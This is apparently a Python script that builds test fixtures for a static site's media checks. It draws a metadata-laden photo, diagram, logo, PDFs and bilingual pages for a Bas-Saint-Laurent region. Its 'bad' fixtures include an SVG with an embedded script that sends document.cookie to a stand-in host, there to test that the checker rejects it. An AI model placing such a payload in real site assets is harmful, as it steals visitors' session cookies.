"""Makes a content folder for the media tests: the repository's content/ plus, in the region
bas-saint-laurent, a phone photo, a diagram, a logo, leaflets and a page that shows them.

    tests/.venv/bin/python tests/media/make-fixture OUT          # the good cases
    tests/.venv/bin/python tests/media/make-fixture --bad OUT    # the mistakes `check` must find

(make-fixture runs `main` of this module; test_media.py imports it for the names it wrote.)

Everything is drawn here (Pillow), nothing is downloaded. The photo is built to behave like one
off a phone: 4032×3024 stored sideways with EXIF Orientation 6 (shown 3024×4032, portrait),
GPS position of Rimouski, an XMP packet, a comment and an ICC profile, about 3.5 MB. Every
metadata block carries SECRET (see below) so a test can look for it in what is published.
"""

from __future__ import annotations

import argparse
import io
import random
import re
import shutil
import sys
from pathlib import Path

from PIL import Image, ImageChops, ImageCms, ImageDraw, ImageFilter, ImageOps, PngImagePlugin

ROOT = Path(__file__).resolve().parents[2]
REGION = "regions/bas-saint-laurent"

# Written into every metadata block of the sources (EXIF, GPS-tagged EXIF, XMP, comments,
# PNG text): none of what is published may hold it.
SECRET = "SECRET-METADATA-7c1e"

# The photo as shown (after its orientation is applied): portrait.
PHOTO_SHOWN = (3024, 4032)
# The flat block painted in the shown photo's top-left corner, in shown pixels.
MARKER_COLOUR = (255, 0, 255)
MARKER_SIZE = 400
PNG_SIZE = (1200, 675)
# Over the build's limit of 60 megapixels.
GIANT_SIZE = (8000, 8000)
# Rimouski, as a phone writes it: degrees, minutes, seconds.
GPS_LATITUDE = (48.0, 26.0, 56.0)
GPS_LONGITUDE = (68.0, 31.0, 25.0)

# Sizes chosen so "1.5 KB" and "2.5 KB" are the same whether a kilobyte is 1000 or 1024 bytes.
PDF_FR_BYTES = 1530
PDF_EN_BYTES = 2530

YOUTUBE = "https://www.youtube.com/watch?v=aqz-KE-bpKQ"
YOUTUBE_ID = "aqz-KE-bpKQ"
VIMEO = "https://vimeo.com/76979871"
VIMEO_ID = "76979871"

LOGO_ALT = {
    "fr": "Logo du CISSS du Bas-Saint-Laurent",
    "en": "Logo of the CISSS du Bas-Saint-Laurent",
}
PHOTO_ALT = {
    "fr": "Des éclaireurs du Bas-Saint-Laurent réunis au bord du fleuve, à Rimouski",
    "en": "Éclaireurs of Bas-Saint-Laurent gathered by the river in Rimouski",
}
VIDEO_TITLES = {
    "fr": ("Capsule 1 : le rôle de l'éclaireur", "Capsule 2 : mobiliser sa communauté"),
    "en": ("Capsule 1: the éclaireur's role", "Capsule 2: mobilizing one's community"),
}
DOCUMENT = {"fr": ("Dépliant", "depliant.pdf"), "en": ("Leaflet", "leaflet.pdf")}

XMP = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,26.93N" exif:GPSLongitude="68,31.42W">'
    f"<dc:creator><rdf:Seq><rdf:li>{SECRET} Jeanne Tremblay</rdf:li></rdf:Seq></dc:creator>"
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
    '<?xpacket end="w"?>'
)


# --- pictures ----------------------------------------------------------------------------


def photo_shown() -> Image.Image:
    """A photo-like scene (sky, hills, seven people), portrait, with the marker corner.

    Smooth shapes, low- and mid-frequency texture where there is ground, and per-pixel sensor
    noise: it compresses like a photo (about 3.5 MB as a phone's JPEG, under 100 KB as a
    960 px WebP), not like a drawing nor like pure noise."""
    w, h = PHOTO_SHOWN
    rnd = random.Random(18)

    def up(small: Image.Image) -> Image.Image:
        return small.resize((w, h), Image.Resampling.BICUBIC)

    sky = Image.linear_gradient("L").resize((w, h)).point(lambda v: 150 + v // 4)
    base = Image.merge("RGB", [sky.point(lambda v: v - 60), sky.point(lambda v: v - 20), sky])
    draw = ImageDraw.Draw(base)
    ground = Image.new("L", (w, h), 0)
    ground_draw = ImageDraw.Draw(ground)
    horizon = int(h * 0.5)
    draw.rectangle([0, horizon, w, h], fill=(70, 95, 60))
    ground_draw.rectangle([0, horizon, w, h], fill=255)
    for _ in range(7):
        x, r = rnd.randrange(w), rnd.randrange(250, 700)
        box = [x - r, horizon - r * 0.4, x + r, horizon + r * 0.4]
        draw.ellipse(box, fill=(60 + rnd.randrange(30), 90 + rnd.randrange(30), 55))
        ground_draw.ellipse(box, fill=255)
    for i in range(5):
        x, y = 330 + i * 600 + rnd.randrange(-60, 60), int(h * 0.6)
        colour = tuple(rnd.randrange(40, 220) for _ in range(3))
        draw.rounded_rectangle([x - 150, y, x + 150, y + 1100], 70, fill=colour)
        draw.ellipse([x - 100, y - 230, x + 100, y - 20], fill=(225, 190, 160))
    base = base.filter(ImageFilter.GaussianBlur(4))
    ground = ground.filter(ImageFilter.GaussianBlur(20))

    texture = ImageChops.add(up(Image.effect_noise((48, 64), 25)), up(Image.effect_noise((300, 400), 12)), offset=-128)
    texture = ImageChops.add(texture, up(Image.effect_noise((1050, 1400), 10)), offset=-128)
    haze = ImageChops.add(Image.new("L", (w, h), 128), up(Image.effect_noise((48, 64), 12)), offset=-128)
    texture = Image.composite(texture, haze, ground)
    channels = []
    for channel in base.split():
        channel = ImageChops.add(channel, texture, offset=-128)
        channels.append(ImageChops.add(channel, Image.effect_noise((w, h), 7), offset=-128))
    shown = Image.merge("RGB", channels)
    ImageDraw.Draw(shown).rectangle([0, 0, MARKER_SIZE - 1, MARKER_SIZE - 1], fill=MARKER_COLOUR)
    return shown


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def phone_exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Fictive Phones"  # Make
    exif[0x0110] = "Phone 12"  # Model
    exif[0x0112] = orientation
    exif[0x0132] = "2026:06:21 14:03:12"  # DateTime
    exif[0x013B] = f"{SECRET} Jeanne Tremblay"  # Artist
    exif[0x010E] = f"{SECRET} description"  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: GPS_LATITUDE, 3: "W", 4: GPS_LONGITUDE})
    return exif


def write_photo(path: Path) -> None:
    # Stored sideways as a phone held upright stores it: Orientation 6 says "turn 90° clockwise
    # to show", so the stored pixels are the shown ones turned 90° counter-clockwise.
    stored = photo_shown().transpose(Image.Transpose.ROTATE_90)
    path.write_bytes(
        encode_jpeg(
            stored,
            quality=90,
            exif=phone_exif(6),
            xmp=XMP.encode(),
            comment=f"{SECRET} comment".encode(),
            icc_profile=srgb_profile(),
        )
    )
    check_photo(path)


def encode_jpeg(image: Image.Image, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", **options)
    return out.getvalue()


def check_photo(path: Path) -> None:
    """The fixture is only worth something if the source holds what must not be published."""
    with Image.open(path) as im:
        exif = im.getexif()
        assert im.size == (PHOTO_SHOWN[1], PHOTO_SHOWN[0]), im.size
        assert exif.get(0x0112) == 6, "orientation"
        assert exif.get_ifd(0x8825).get(2) == GPS_LATITUDE, "GPS"
        for key in ("exif", "xmp", "comment", "icc_profile"):
            assert key in im.info, key
        shown = ImageOps.exif_transpose(im)
        assert shown.size == PHOTO_SHOWN
        assert shown.getpixel((10, 10)) == MARKER_COLOUR or near(shown.getpixel((10, 10)), MARKER_COLOUR)


def near(a, b, tolerance: int = 40) -> bool:
    return all(abs(x - y) <= tolerance for x, y in zip(a, b))


def write_diagram(path: Path) -> None:
    """A diagram with a transparent background: three boxes joined by arrows."""
    w, h = PNG_SIZE
    im = Image.new("RGBA", (w, h), (0, 0, 0, 0))
    d = ImageDraw.Draw(im)
    for i, colour in enumerate([(0, 94, 162, 255), (46, 133, 64, 255), (178, 34, 34, 255)]):
        x = 60 + i * 390
        d.rounded_rectangle([x, 220, x + 300, 455], 30, fill=colour)
        if i < 2:
            d.polygon([(x + 310, 320), (x + 370, 337), (x + 310, 355)], fill=(40, 40, 40, 255))
    d.ellipse([520, 40, 680, 180], fill=(255, 200, 0, 160))  # half transparent
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", f"{SECRET} made by hand")
    info.add_text("Author", f"{SECRET} Jeanne Tremblay")
    info.add_itxt("XML:com.adobe.xmp", XMP)
    im.save(path, "PNG", pnginfo=info, exif=phone_exif(1))
    with Image.open(path) as back:
        assert back.mode == "RGBA" and "Comment" in back.text, "PNG fixture"


LOGO_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 80" width="240" height="80">
  <title>CISSS du Bas-Saint-Laurent</title>
  <rect x="0" y="0" width="240" height="80" rx="12" fill="#005ea2"/>
  <circle cx="40" cy="40" r="22" fill="#ffffff"/>
  <path d="M30 40 l8 8 l14 -18" fill="none" stroke="#005ea2" stroke-width="6"/>
  <rect x="80" y="26" width="136" height="10" fill="#ffffff"/>
  <rect x="80" y="46" width="96" height="10" fill="#ffffff"/>
</svg>
"""

SCRIPT_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="100" height="100">
  <title>Logo</title>
  <rect x="10" y="10" width="80" height="80" fill="#2e8540"/>
  <script>fetch('https://tracker.example/?c=' + document.cookie)</script>
</svg>
"""


# --- documents ---------------------------------------------------------------------------


def pdf(text: str, size: int) -> bytes:
    """A one-page PDF showing `text`, padded (with a comment line) to exactly `size` bytes."""

    def build(padding: int) -> bytes:
        stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
        objects = [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        ]
        out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
        # Comment lines of at most 72 characters, as PDF prefers lines under 255.
        pad = bytearray(b"%" + b"-" * padding + b"\n")
        for i in range(72, len(pad) - 2, 72):
            pad[i : i + 2] = b"\n%"
        out += pad
        offsets = []
        for n, body in enumerate(objects, start=1):
            offsets.append(len(out))
            out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for offset in offsets:
            out += b"%010d 00000 n \n" % offset
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
        return bytes(out)

    padding = 0
    for _ in range(3):  # the `startxref` number may gain a digit as the file grows
        padded = build(padding)
        if len(padded) == size:
            return padded
        padding += size - len(padded)
    raise AssertionError(f"cannot make a PDF of {size} bytes")


# --- pages -------------------------------------------------------------------------------

LONG_TEXT = {
    "fr": (
        "La formation réunit des citoyennes et des citoyens de toutes les MRC de la région. "
        "Pendant une journée, les participants apprennent à reconnaître les signes de détresse "
        "psychologique, à entrer en contact avec une personne qui ne va pas bien et à la diriger "
        "vers les ressources du milieu. Les formatrices et les formateurs du CISSS présentent les "
        "organismes communautaires de chaque territoire, leurs services et la façon de les joindre. "
        "Les éclaireurs échangent ensuite sur ce qu'ils observent dans leur communauté : l'isolement "
        "des personnes aînées, l'inquiétude des producteurs agricoles, la fatigue des proches aidants. "
        "Chacun repart avec un carnet de ressources, les coordonnées de la personne-ressource de son "
        "territoire et l'assurance de pouvoir compter sur le réseau. Les rencontres de suivi, tous les "
        "trois mois, permettent de partager les bons coups, de parler des situations plus difficiles "
        "et de garder le contact entre éclaireurs d'un même secteur. Personne n'agit seul : le réseau "
        "est là pour soutenir celles et ceux qui soutiennent les autres, et chaque geste compte, même "
        "le plus simple, comme prendre des nouvelles d'une voisine ou accompagner quelqu'un vers un "
        "organisme qui peut l'aider."
    ),
    "en": (
        "The training brings together citizens from every RCM of the region. For one day, "
        "participants learn to recognize the signs of psychological distress, to reach out to a "
        "person who is not doing well and to refer them to local resources. The CISSS trainers "
        "present the community organizations of each territory, their services and how to reach "
        "them. The éclaireurs then talk about what they see in their community: the isolation of "
        "older people, the worries of farmers, the fatigue of caregivers. Everyone leaves with a "
        "booklet of resources, the details of their territory's contact person and the assurance "
        "that they can count on the network. Follow-up meetings, every three months, are a time to "
        "share what went well, to talk about harder situations and to keep in touch with the other "
        "éclaireurs of the same area. No one acts alone: the network is there to support those who "
        "support others, and every gesture counts, even the simplest one, such as checking in on a "
        "neighbour or going with someone to an organization that can help them."
    ),
}

PAGE = {
    "fr": """---
title: Nos éclaireurs en images
description: "Photos, dépliant et capsules vidéo des éclaireurs du Bas-Saint-Laurent."
slug: photos
order: 8
menu_title: Photos
---
Voici quelques images de nos éclaireurs.

![{alt}](eclaireurs.jpg)

## Une journée de formation

{long}

![décoratif](schema.png)

Pour tout savoir sur le réseau, lisez notre [{doc}]({doc_file}).

## Nos capsules

[![décoratif](eclaireurs.jpg) {video1}]({youtube})

[{video2}]({vimeo})
""",
    "en": """---
title: Our éclaireurs in pictures
description: "Photos, leaflet and video capsules of the éclaireurs of Bas-Saint-Laurent."
slug: photos
order: 8
menu_title: Photos
---
Here are a few pictures of our éclaireurs.

![{alt}](eclaireurs.jpg)

## A day of training

{long}

![decorative](schema.png)

To learn all about the network, read our [{doc}]({doc_file}).

## Our capsules

[![decorative](eclaireurs.jpg) {video1}]({youtube})

[{video2}]({vimeo})
""",
}

BAD_PAGE = """---
title: Des images à corriger
description: "Une page dont les images ont des problèmes que la vérification doit trouver."
slug: images-a-corriger
order: 9
menu_title: À corriger
---
Chaque ligne ci-dessous a un problème.

![](eclaireurs.jpg)

![Un logo qui exécute un script](script.svg)

![Une photo coupée pendant l'envoi](tronquee.jpg)

![Une photo prise avec un iPhone](iphone.jpg)

![Une photo qui n'existe pas](absente.jpg)

![Une affiche numérisée trop grande](geante.png)
"""


# --- the folder --------------------------------------------------------------------------


def copy_content(out: Path) -> Path:
    if out.exists() and any(out.iterdir()):
        sys.exit(f"make-fixture: {out} is not empty: give a new folder")
    shutil.copytree(ROOT / "content", out, dirs_exist_ok=True, ignore=shutil.ignore_patterns(".cache"))
    config = out / "config.yaml"
    theme = (ROOT / "themes/default").as_posix()
    text, n = re.subn(r"(?m)^theme:.*$", f"theme: {theme}", config.read_text(encoding="utf-8"))
    if n != 1:
        sys.exit(f"make-fixture: no `theme:` line in {config}")
    config.write_text(text, encoding="utf-8")
    return out / REGION


def make_good(out: Path) -> None:
    region = copy_content(out)
    static = region / "static"
    static.mkdir()
    write_photo(static / "eclaireurs.jpg")
    write_diagram(static / "schema.png")
    (static / "logo.svg").write_text(LOGO_SVG, encoding="utf-8")
    (region / "fr" / "depliant.pdf").write_bytes(pdf("Depliant des eclaireurs", PDF_FR_BYTES))
    (region / "en" / "leaflet.pdf").write_bytes(pdf("Eclaireurs leaflet", PDF_EN_BYTES))
    region_yaml = region / "region.yaml"
    text = region_yaml.read_text(encoding="utf-8")
    with region_yaml.open("a", encoding="utf-8") as f:
        f.write(
            ("" if text.endswith("\n") else "\n") + "# The establishment's logo, shown in the region's header.\n"
            f'logo: {{ file: logo.svg, alt: {{ fr: "{LOGO_ALT["fr"]}", en: "{LOGO_ALT["en"]}" }} }}\n'
        )
    for lang in ("fr", "en"):
        doc, doc_file = DOCUMENT[lang]
        video1, video2 = VIDEO_TITLES[lang]
        page = PAGE[lang].format(
            alt=PHOTO_ALT[lang],
            long=LONG_TEXT[lang],
            doc=doc,
            doc_file=doc_file,
            video1=video1,
            video2=video2,
            youtube=YOUTUBE,
            vimeo=VIMEO,
        )
        (region / lang / "photos.md").write_text(page, encoding="utf-8")


def make_bad(out: Path) -> None:
    region = copy_content(out)
    static = region / "static"
    static.mkdir()
    small = Image.new("RGB", (800, 600), (90, 120, 160))
    ImageDraw.Draw(small).ellipse([200, 100, 600, 500], fill=(230, 180, 60))
    whole = encode_jpeg(small, quality=85)
    (static / "eclaireurs.jpg").write_bytes(whole)
    (static / "tronquee.jpg").write_bytes(whole[: len(whole) // 2])
    # What an iPhone saves by default (HEIC), renamed .jpg: an ISO BMFF `ftyp` box of brand heic.
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x10meta" + bytes(8)
    (static / "iphone.jpg").write_bytes(heic)
    (static / "script.svg").write_text(SCRIPT_SVG, encoding="utf-8")
    # 64 megapixels (over the 60 MP limit) in a few kilobytes: one-bit and flat.
    Image.new("1", GIANT_SIZE, 1).save(static / "geante.png", optimize=True)
    (region / "fr" / "images-a-corriger.md").write_text(BAD_PAGE, encoding="utf-8")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bad", action="store_true", help="make the folder of mistakes instead")
    parser.add_argument("out", type=Path, help="the content folder to make (new or empty)")
    args = parser.parse_args()
    (make_bad if args.bad else make_good)(args.out)
    print(f"make-fixture: {'bad' if args.bad else 'good'} content folder in {args.out}")


if __name__ == "__main__":
    main()
